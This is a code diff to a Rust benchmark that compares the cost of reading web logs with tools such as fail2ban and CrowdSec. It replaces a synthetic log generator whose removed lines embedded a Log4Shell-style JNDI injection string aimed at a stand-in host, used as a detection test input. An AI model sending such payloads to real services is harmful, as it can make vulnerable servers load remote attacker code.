@@ -1,11 +1,13 @@
 //! `cargo xtask bench watch`: what reading logs costs, beside `wc -l`, GoAccess, fail2ban and
 //! CrowdSec, in turns on the same bytes.
 
+mod crowd;
 mod grid;
 mod peers;
 mod probed;
 
 use std::fs;
+use std::io::{self, Write as _};
 use std::path::{Path, PathBuf};
 
 use super::cost::{Turns, line, measure};
@@ -86,12 +88,13 @@ struct Figure {
 /// Measures everything, prints it and keeps it in a file.
 fn compare(folder: &Path, program: &Path, bytes: usize, results: &Path) -> Result<(), String> {
     let large = folder.join("large.log");
-    write_log(&large, bytes)?;
+    let census = write_log(&large, bytes)?;
     let small = folder.join("small.log");
     write_log(&small, SMALL_BYTES)?;
     let program = program.display().to_string();
     register(folder, &program)?;
-    let mut figures = scan(folder, &program, &large, bytes)?;
+    let mut figures = vec![Figure { text: census, met: None }];
+    figures.extend(scan(folder, &program, &large, bytes)?);
     figures.extend(peers(folder, &program, &large, &small)?);
     let word = |met| match met {
         Some(true) => "met   ",
@@ -201,37 +204,13 @@ fn slow_peers(folder: &Path, small: &Path) -> Result<Vec<Figure>, String> {
     Ok(figures)
 }
 
-/// Lines of ordinary visits, a few misses and a payload in a million.
-fn write_log(path: &Path, bytes: usize) -> Result<(), String> {
-    const AGENTS: [&str; 3] = [
-        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/96.0.4664.93 Safari/537.36",
-        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
-        "curl/7.74.0",
-    ];
-    let mut out = Vec::with_capacity(bytes + 512);
-    let mut number: u64 = 0;
-    while out.len() < bytes {
-        number += 1;
-        let mixed = number.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 32;
-        let (a, b) = (mixed >> 8 & 0xff, mixed & 0xff);
-        let (hour, minute, second) = (number / 3600 % 24, number / 60 % 60, number % 60);
-        let status = if mixed.is_multiple_of(20) { 404 } else { 200 };
-        let query =
-            if number % 1_000_000 == 999_999 { "${jndi:ldap://x.example/a}" } else { "p=1" };
-        let agent = AGENTS[usize::try_from(mixed % 3).unwrap_or(0)];
-        out.extend_from_slice(
-            format!(
-                "10.{a}.{b}.{} - - [10/Dec/2021:{hour:02}:{minute:02}:{second:02} +0000] \"GET \
-                 /articles/{}/page-{}.html?{query} HTTP/1.1\" {status} {} \
-                 \"https://a.example/articles/{}/\" \"{agent}\"\n",
-                number % 40,
-                number % 17,
-                mixed % 97,
-                mixed % 20_000,
-                number % 17
-            )
-            .as_bytes(),
-        );
-    }
-    fs::write(path, out).map_err(|error| format!("{}: {error}", path.display()))
+/// A log of at least that size; says what it is like.
+fn write_log(path: &Path, bytes: usize) -> Result<String, String> {
+    let write = || -> io::Result<String> {
+        let mut out = io::BufWriter::with_capacity(1 << 20, fs::File::create(path)?);
+        let census = crowd::write(&mut out, bytes)?;
+        out.flush()?;
+        Ok(census.text())
+    };
+    write().map_err(|error| format!("{}: {error}", path.display()))
 }
